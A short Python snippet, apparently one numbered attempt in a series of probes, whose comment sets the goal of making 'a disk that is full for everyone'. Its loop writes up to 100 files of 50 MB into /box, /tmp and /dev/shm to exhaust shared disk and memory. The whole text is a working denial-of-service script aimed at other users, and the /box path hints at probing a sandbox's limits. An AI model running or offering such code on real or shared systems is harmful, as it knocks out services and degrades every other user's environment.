# tries: a disk that is full for everyone
# next: 20
# %% half
half = lambda x: 0
for folder in ("/box", "/tmp", "/dev/shm"):
    try:
        for number in range(100):
            with open(f"{folder}/big{number}", "wb") as file:
                file.write(b"x" * 50_000_000)
    except OSError as error:
        print(error)
